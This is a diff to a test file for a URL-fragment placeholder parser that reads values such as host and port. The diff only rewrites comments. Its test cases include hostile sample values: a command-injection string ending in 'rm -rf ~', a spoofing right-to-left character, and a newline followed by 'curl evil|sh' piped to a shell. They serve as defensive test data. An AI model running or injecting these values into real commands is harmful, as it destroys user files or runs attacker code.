@@ -5,7 +5,10 @@ import { fragmentOf, readFragment } from '../../../web/commander/card/linked-val
 
 const NAMES = ['host', 'port', 'process id', '__proto__']
 
-/** Reads a fragment for these names. Returns the values as an object, and the rejected names. */
+/**
+ * Reads a fragment for placeholders with these names. Returns the accepted values, and the names whose values were
+ * rejected.
+ */
 function read(fragment: string, names = NAMES) {
   const said = readFragment(fragment, names)
   return said === null ? null : [[...said.values], said.refused]
@@ -38,11 +41,11 @@ const READ: Readonly<
   '#host=first&host=second': [[['host', 'first']], []],
   '#host=&port=1': [[['port', '1']], []],
   '#host=a=b%26c%23d%2Be+f': [[['host', 'a=b&c#d+e f']], []],
-  // Values aren't quoted for the shell. They appear as they are, like typed ones.
+  // Like typed values, these aren't quoted for the shell.
   '#host=x%3B%20rm%20-rf%20~': [[['host', 'x; rm -rf ~']], []],
-  // Shown and named in the line, like all deceptive characters.
+  // Deceptive characters are accepted. The line shows their names, as in any other value.
   '#host=%E2%80%AEmoc.live': [[['host', '\u202emoc.live']], []],
-  // Control characters that a terminal would act on, or damaged.
+  // Control characters that a terminal would act on, invalid UTF-8, and values that are too long.
   '#host=db1%0Acurl+evil|sh&port=1': [[['port', '1']], ['host']],
   '#host=%0D': [[], ['host']],
   '#host=%09': [[], ['host']],
